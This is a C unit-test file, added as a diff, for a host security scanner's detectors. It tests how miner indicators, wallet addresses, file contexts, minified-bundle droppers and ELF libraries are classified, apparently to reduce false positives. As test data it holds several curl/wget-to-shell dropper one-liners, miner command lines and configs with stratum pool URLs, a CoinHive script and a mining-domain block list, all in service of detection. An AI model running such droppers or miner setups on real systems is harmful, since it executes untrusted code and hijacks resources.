@@ -1,0 +1,365 @@
+/* Precision (issue 10): severity from the evidence together, file context,
+ * droppers in minified bundles, shared libraries are not static programs,
+ * process indicators of ordinary programs. Real third-party content is in
+ * tests/realworld/fp_corpus.sh; these are the rules behind it. */
+#include <setjmp.h>
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <cmocka.h>
+
+#include "core/event.h"
+#include "core/log.h"
+#include "detectors/content/content_scan.h"
+#include "detectors/content/exe_sections.h"
+#include "detectors/content/file_context.h"
+#include "detectors/content/script_checks.h"
+#include "detectors/indicators/text_indicators.h"
+#include "detectors/process/process_indicators.h"
+
+/* Monero general fund (public; the same one docs quote). */
+#define XMR "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+/* The ethers docs' example (EIP-55 checksummed). */
+#define ETH "0x8ba1f109551bD432803012645Ac136ddd64DBA72"
+#define BTC "1KFzzGtDdnq5hrwxXGjwVnKzRbvf8WVxck"
+
+static enum hh_severity sev_of(const char *text, char *why, size_t n)
+{
+	struct hh_indicator ind[32];
+	size_t k = hh_indicators_scan(text, strlen(text), ind, 32);
+	return hh_indicators_assess(ind, k, why, n);
+}
+
+static void severity_from_evidence(void **state)
+{
+	(void)state;
+	char why[128];
+	/* a wallet alone: context */
+	assert_int_equal(sev_of("donations: " XMR, why, sizeof(why)), HH_SEV_LOW);
+	assert_string_equal(why, "wallet alone: context");
+	assert_int_equal(sev_of("token = \"" ETH "\"", why, sizeof(why)), HH_SEV_LOW);
+	assert_int_equal(sev_of("send to " BTC, why, sizeof(why)), HH_SEV_LOW);
+	/* web3: "ethash" plus an address is not critical (not even high) */
+	assert_int_equal(sev_of("getWork: 'ethash', '" ETH "'", why, sizeof(why)), HH_SEV_MEDIUM);
+	/* an algorithm alone: --algo ethash in any program's arguments */
+	assert_int_equal(sev_of("./bench --algo ethash", why, sizeof(why)), HH_SEV_LOW);
+	assert_string_equal(why, "algorithm name alone: context");
+	/* a wallet next to a pool endpoint, miner flags or a miner name: strong */
+	assert_int_equal(sev_of("-o stratum+tcp://pool.example:3333 -u " XMR, why, sizeof(why)), HH_SEV_CRITICAL);
+	assert_int_equal(sev_of("--donate-level 1 -u " XMR, why, sizeof(why)), HH_SEV_CRITICAL);
+	assert_int_equal(sev_of("/usr/bin/xmrig -u " XMR, why, sizeof(why)), HH_SEV_HIGH);
+	assert_int_equal(sev_of("stratum+tcp://pool.example:3333", why, sizeof(why)), HH_SEV_HIGH);
+	assert_int_equal(sev_of("xmrig --donate-level 1", why, sizeof(why)), HH_SEV_HIGH);
+	assert_int_equal(sev_of("xmrig -a rx/0", why, sizeof(why)), HH_SEV_HIGH);
+	assert_int_equal(sev_of("xmrig", why, sizeof(why)), HH_SEV_MEDIUM);
+}
+
+static void file_contexts(void **state)
+{
+	(void)state;
+	struct hh_file_ctx c;
+	static const struct {
+		const char *path;
+		enum hh_file_context kind;
+	} cases[] = {
+		{ "/app/node_modules/monero-javascript/README.md", HH_FCTX_WALLET_LIB },
+		{ "/srv/README.md", HH_FCTX_DOCS },
+		{ "/srv/docs/guide.rst", HH_FCTX_DOCS },
+		{ "usr/share/doc/foo/changelog.Debian.gz", HH_FCTX_DOCS },
+		{ "/app/node_modules/ethers/dist/ethers.min.js", HH_FCTX_WALLET_LIB },
+		{ "/app/node_modules/@ethersproject/address/lib/index.js", HH_FCTX_WALLET_LIB },
+		{ "/app/node_modules/web3-eth/lib/index.js", HH_FCTX_WALLET_LIB },
+		{ "/usr/lib/python3/dist-packages/eth_account/account.py", HH_FCTX_WALLET_LIB },
+		{ "/app/dist/web3.min.js.map", HH_FCTX_SOURCE_MAP },
+		{ "/app/lib/checks.d.ts", HH_FCTX_TYPE_DECLS },
+		{ "/app/test/wallet_address_validator.js", HH_FCTX_TESTS },
+		{ "/app/src/address.spec.ts", HH_FCTX_TESTS },
+		/* code is code: a script under docs/, an app's own bundle, a config */
+		{ "/srv/docs/js/miner.js", HH_FCTX_NONE },
+		{ "/app/dist/app.js", HH_FCTX_NONE },
+		{ "/app/node_modules/left-pad/index.js", HH_FCTX_NONE },
+		{ "/opt/config.json", HH_FCTX_NONE },
+	};
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		hh_file_context(cases[i].path, NULL, 0, &c);
+		if (c.kind != cases[i].kind)
+			fail_msg("%s: context %d, want %d (%s)", cases[i].path, c.kind, cases[i].kind, c.why);
+	}
+	const char *list = "# NoCoin\ncnhv.co\t99\ncoin-hive.com\t99\ncoinhive.com\t99\nauthedmine.com\t99\n"
+			   "gus.host\t99\nload.jsecoin.com\t99\nppoi.org\t99\nprojectpoi.com\t99\ncrypto-loot.com\t99\n";
+	assert_true(hh_text_is_domain_list(list, strlen(list)));
+	const char *adblock = "! list\n||a1.example^\n||a2.example^\n||a3.example^\n||a4.example^\n||a5.example^\n"
+			      "||a6.example^\n||a7.example^\n||a8.example^\n";
+	assert_true(hh_text_is_domain_list(adblock, strlen(adblock)));
+	const char *js = "var m = new CoinHive.Anonymous('k');\nm.start();\nconnect('coinhive.com');\n";
+	assert_false(hh_text_is_domain_list(js, strlen(js)));
+}
+
+static bool list_has(const struct hh_findings *l, const char *rule, enum hh_severity min)
+{
+	for (size_t i = 0; i < l->n; i++)
+		if (!strcmp(l->items[i]->rule, rule) && l->items[i]->severity >= min)
+			return true;
+	return false;
+}
+
+static const char *severity_evidence(const struct hh_finding *f)
+{
+	size_t i;
+	json_t *e;
+	json_array_foreach(f->evidence, i, e)
+		if (!strcmp(json_string_value(json_object_get(e, "what")), "severity"))
+			return json_string_value(json_object_get(e, "value"));
+	return NULL;
+}
+
+static struct hh_content *content(void)
+{
+	struct hh_content_opts o;
+	hh_content_opts_from_config(&o, NULL);
+	char err[256];
+	struct hh_content *c = hh_content_new(&o, NULL, 0, err, sizeof(err));
+	assert_non_null(c);
+	return c;
+}
+
+static void scan_one(struct hh_content *c, const char *fs, const void *data, size_t len, struct hh_findings *out)
+{
+	hh_findings_clear(out);
+	hh_content_scan(c, fs, fs, data, len, out, NULL, 0);
+}
+
+static void content_precision(void **state)
+{
+	(void)state;
+	struct hh_content *c = content();
+	struct hh_findings l = { 0 };
+	/* ethers-style bundle: checksummed example addresses, nothing else */
+	const char *ethers = "const addr = \"" ETH "\";\nfunction getAddress(a){return a}\n";
+	scan_one(c, "/app/public/ethers.min.js", ethers, strlen(ethers), &l);
+	assert_true(list_has(&l, "miner.indicators", HH_SEV_LOW));
+	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
+	assert_string_equal(severity_evidence(l.items[0]), "wallet alone: context");
+	/* web3: ethash plus an address, inside the library: low */
+	const char *web3 = "getWork(){return this.rpc('ethash', '" ETH "')}";
+	scan_one(c, "/app/node_modules/web3/dist/web3.min.js", web3, strlen(web3), &l);
+	assert_true(list_has(&l, "miner.indicators", HH_SEV_LOW));
+	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
+	assert_non_null(strstr(severity_evidence(l.items[0]), "lowered to low: wallet library (web3)"));
+	/* a Monero wallet library README with an example address */
+	const char *readme = "# monero-javascript\n\nconst wallet = await createWallet({ primaryAddress: \"" XMR "\" });\n";
+	scan_one(c, "/app/node_modules/monero-javascript/README.md", readme, strlen(readme), &l);
+	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
+	scan_one(c, "/srv/README.md", readme, strlen(readme), &l);
+	assert_false(list_has(&l, "miner.indicators", HH_SEV_MEDIUM));
+	/* a real miner config still counts, outside docs and inside */
+	const char *cfg = "{\"pools\":[{\"url\":\"stratum+tcp://pool.example:4444\",\"user\":\"" XMR "\"}],\"donate-level\":1}";
+	scan_one(c, "/opt/config.json", cfg, strlen(cfg), &l);
+	assert_true(list_has(&l, "miner.config", HH_SEV_CRITICAL));
+	scan_one(c, "/opt/docs/config.json", cfg, strlen(cfg), &l);
+	assert_true(list_has(&l, "miner.config", HH_SEV_HIGH)); /* config.json under docs/ is not documentation */
+	scan_one(c, "/opt/miner/README.md", cfg, strlen(cfg), &l);
+	assert_true(list_has(&l, "miner.config", HH_SEV_MEDIUM)); /* lowered two levels, still listed */
+	/* a domain list (ndpiCustomCategory.txt) is not a CoinHive script */
+	const char *list = "# NoCoin Filter List\ncnhv.co\t99\ncoin-hive.com\t99\ncoinhive.com\t99\nauthedmine.com\t99\n"
+			   "gus.host\t99\nload.jsecoin.com\t99\nwebminerpool.com\t99\nppoi.org\t99\nprojectpoi.com\t99\n";
+	scan_one(c, "/usr/share/ndpi/ndpiCustomCategory.txt", list, strlen(list), &l);
+	assert_true(list_has(&l, "miner.web.coinhive", HH_SEV_LOW));
+	assert_false(list_has(&l, "miner.web.coinhive", HH_SEV_MEDIUM));
+	assert_false(list_has(&l, "miner.pool-domain", HH_SEV_MEDIUM));
+	/* the CoinHive script itself is still high */
+	const char *js = "<script>var m=new CoinHive.Anonymous('k');m.start();</script><script src=coinhive.min.js>";
+	scan_one(c, "/srv/index.html", js, strlen(js), &l);
+	assert_true(list_has(&l, "miner.web.coinhive", HH_SEV_HIGH));
+	hh_findings_clear(&l);
+	free(l.items);
+	hh_content_free(c);
+}
+
+static void minified_bundles_are_not_droppers(void **state)
+{
+	(void)state;
+	struct hh_dropper d;
+	/* firebase-style: "fetch", a template-literal backtick and an "sh" word on one long line */
+	const char *fb = "async function vi(e){let s=await fetch(u,{method:'POST'});if(!s.ok)throw `bad ${s.status}`;"
+			 "const sh=e.sh;return sh}function x(){return`a`}var bash=1;";
+	assert_false(hh_find_dropper(fb, strlen(fb), &d));
+	/* three.js-style: a pipe far from a fetch, then a word that is a shell name */
+	char *big = malloc(8192);
+	int n = snprintf(big, 8192, "fetch(url).then(r=>r.json());");
+	memset(big + n, 'a', 4000);
+	snprintf(big + n + 4000, 8192 - (size_t)n - 4000, ";var q=m|sh;");
+	assert_false(hh_find_dropper(big, strlen(big), &d));
+	free(big);
+	/* droppers stay droppers */
+	const char *yes[] = {
+		"sh -c \"$(curl -fsSL http://x/i.sh)\"",
+		"bash <(wget -qO- http://x/i.sh)",
+		"bash -c `curl -s http://x/i.sh`",
+		"sudo sh -c \"$(/usr/bin/curl -fsSL http://x/i.sh)\"",
+		"curl -fsSL http://x/y.sh | sh",
+	};
+	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
+		if (!hh_find_dropper(yes[i], strlen(yes[i]), &d))
+			fail_msg("not a dropper: %s", yes[i]);
+}
+
+static void put16(uint8_t *p, uint16_t v) { p[0] = (uint8_t)v; p[1] = (uint8_t)(v >> 8); }
+static void put32(uint8_t *p, uint32_t v) { for (int i = 0; i < 4; i++) p[i] = (uint8_t)(v >> (8 * i)); }
+static void put64(uint8_t *p, uint64_t v) { for (int i = 0; i < 8; i++) p[i] = (uint8_t)(v >> (8 * i)); }
+
+/* ELF64 of type e_type: one PT_DYNAMIC (DT_SONAME when soname), a random
+ * (high-entropy) .text, .shstrtab; stripped, no PT_INTERP. */
+static size_t make_elf(uint8_t *b, unsigned e_type, uint64_t entry, bool soname)
+{
+	const size_t text_len = 16384;
+	memset(b, 0, 64 + 56 + 32);
+	memcpy(b, "\x7f" "ELF", 4);
+	b[4] = 2; b[5] = 1; b[6] = 1;
+	put16(b + 16, (uint16_t)e_type); put16(b + 18, 62);
+	put64(b + 24, entry);
+	put64(b + 32, 64); put16(b + 54, 56); put16(b + 56, 1);
+	size_t dyn_off = 64 + 56, text_off = dyn_off + 32;
+	uint8_t *ph = b + 64;
+	put32(ph, 2); /* PT_DYNAMIC */
+	put64(ph + 8, dyn_off);
+	put64(ph + 32, 32);
+	put64(b + dyn_off, soname ? 14 : 1); /* DT_SONAME or DT_NEEDED */
+	put64(b + dyn_off + 8, 1);
+	put64(b + dyn_off + 16, 0); /* DT_NULL */
+	uint32_t x = 777;
+	for (size_t i = 0; i < text_len; i++) {
+		x = x * 1103515245u + 12345u;
+		b[text_off + i] = (uint8_t)(x >> 16);
+	}
+	size_t str_off = text_off + text_len;
+	const char strtab[] = "\0.text\0.shstrtab\0";
+	memcpy(b + str_off, strtab, sizeof(strtab));
+	size_t sh_off = (str_off + sizeof(strtab) + 7) & ~(size_t)7;
+	put64(b + 40, sh_off); put16(b + 52, 64); put16(b + 58, 64); put16(b + 60, 3); put16(b + 62, 2);
+	uint8_t *sh = b + sh_off;
+	memset(sh, 0, 3 * 64);
+	put32(sh + 64 + 0, 1); put32(sh + 64 + 4, 1); put64(sh + 64 + 8, 6); put64(sh + 64 + 24, text_off); put64(sh + 64 + 32, text_len);
+	put32(sh + 128 + 0, 7); put32(sh + 128 + 4, 3); put64(sh + 128 + 24, str_off); put64(sh + 128 + 32, sizeof(strtab));
+	return sh_off + 3 * 64;
+}
+
+static void shared_libraries_are_not_static(void **state)
+{
+	(void)state;
+	uint8_t *b = calloc(1, 1 << 16);
+	struct hh_exe_info x;
+	struct hh_content *c = content();
+	struct hh_findings l = { 0 };
+	/* a stripped .so with a soname */
+	size_t n = make_elf(b, 3, 0x1000, true);
+	assert_int_equal(hh_exe_parse(b, n, &x), HH_EXE_ELF);
+	assert_true(x.shared_lib);
+	assert_false(x.is_static);
+	assert_true(x.stripped);
+	scan_one(c, "/usr/lib/x86_64-linux-gnu/libfoo.so.1", b, n, &l);
+	assert_false(list_has(&l, "scan.packed.entropy", HH_SEV_MEDIUM));
+	/* no soname, no entry point: still a library */
+	n = make_elf(b, 3, 0, false);
+	hh_exe_parse(b, n, &x);
+	assert_true(x.shared_lib);
+	/* a static-pie program (ET_DYN, an entry, no soname, no PT_INTERP) stays static */
+	n = make_elf(b, 3, 0x1000, false);
+	hh_exe_parse(b, n, &x);
+	assert_false(x.shared_lib);
+	assert_true(x.is_static);
+	scan_one(c, "/usr/bin/x", b, n, &l);
+	assert_true(list_has(&l, "scan.packed.entropy", HH_SEV_MEDIUM));
+	/* ET_EXEC static */
+	n = make_elf(b, 2, 0x401000, false);
+	hh_exe_parse(b, n, &x);
+	assert_true(x.is_static);
+	assert_false(x.shared_lib);
+	/* a real library from this system, when readable */
+	FILE *fp = fopen("/usr/lib/x86_64-linux-gnu/libz.so.1", "rb");
+	if (fp) {
+		uint8_t *so = malloc(1 << 20);
+		size_t got = fread(so, 1, 1 << 20, fp);
+		fclose(fp);
+		assert_int_equal(hh_exe_parse(so, got, &x), HH_EXE_ELF);
+		assert_true(x.shared_lib);
+		assert_false(x.is_static);
+		free(so);
+	}
+	hh_findings_clear(&l);
+	free(l.items);
+	hh_content_free(c);
+	free(b);
+}
+
+static struct hh_finding *by_rule(const struct hh_findings *l, const char *rule)
+{
+	for (size_t i = 0; i < l->n; i++)
+		if (!strcmp(l->items[i]->rule, rule))
+			return l->items[i];
+	return NULL;
+}
+
+static void proc_event(struct hh_event *ev, int pid, const char *cmdline, const char *env)
+{
+	memset(ev, 0, sizeof(*ev));
+	ev->type = HH_EV_PROC;
+	ev->pid = pid;
+	snprintf(ev->comm, sizeof(ev->comm), "node");
+	snprintf(ev->exepath, sizeof(ev->exepath), "/usr/local/bin/node");
+	snprintf(ev->workload.container_id, sizeof(ev->workload.container_id), "%064d", 7);
+	snprintf(ev->cmdline, sizeof(ev->cmdline), "%s", cmdline);
+	snprintf(ev->env, sizeof(ev->env), "%s", env);
+}
+
+static void agent_process_indicators(void **state)
+{
+	(void)state;
+	struct hh_procind *d = hh_procind_new(64);
+	struct hh_findings out = { 0 };
+	struct hh_event ev;
+	/* an Ethereum token contract in the environment: low context */
+	proc_event(&ev, 100, "node server.js", "PATH=/usr/bin USDC_CONTRACT=" ETH " NODE_ENV=production");
+	hh_procind_eval(d, &ev, &out);
+	struct hh_finding *f = by_rule(&out, "miner.process-indicators");
+	assert_non_null(f);
+	assert_int_equal(f->severity, HH_SEV_LOW);
+	assert_string_equal(severity_evidence(f), "wallet alone: context");
+	/* a Bitcoin address in the environment */
+	proc_event(&ev, 101, "python3 app.py", "DONATE_BTC=" BTC);
+	hh_findings_clear(&out);
+	hh_procind_eval(d, &ev, &out);
+	assert_int_equal(by_rule(&out, "miner.process-indicators")->severity, HH_SEV_LOW);
+	/* --algo ethash alone in a program's arguments */
+	proc_event(&ev, 102, "./hashbench --algo ethash --iterations 10", "");
+	hh_findings_clear(&out);
+	hh_procind_eval(d, &ev, &out);
+	f = by_rule(&out, "miner.process-indicators");
+	assert_non_null(f);
+	assert_true(f->severity < HH_SEV_HIGH);
+	/* a miner stays a miner */
+	proc_event(&ev, 103, "/tmp/x -o stratum+tcp://pool.example:3333 -u " XMR " --donate-level 1", "");
+	hh_findings_clear(&out);
+	hh_procind_eval(d, &ev, &out);
+	assert_int_equal(by_rule(&out, "miner.process-indicators")->severity, HH_SEV_CRITICAL);
+	hh_findings_clear(&out);
+	free(out.items);
+	hh_procind_free(d);
+}
+
+int main(void)
+{
+	hh_log_set_level(HH_LOG_ERROR);
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(severity_from_evidence),
+		cmocka_unit_test(file_contexts),
+		cmocka_unit_test(content_precision),
+		cmocka_unit_test(minified_bundles_are_not_droppers),
+		cmocka_unit_test(shared_libraries_are_not_static),
+		cmocka_unit_test(agent_process_indicators),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
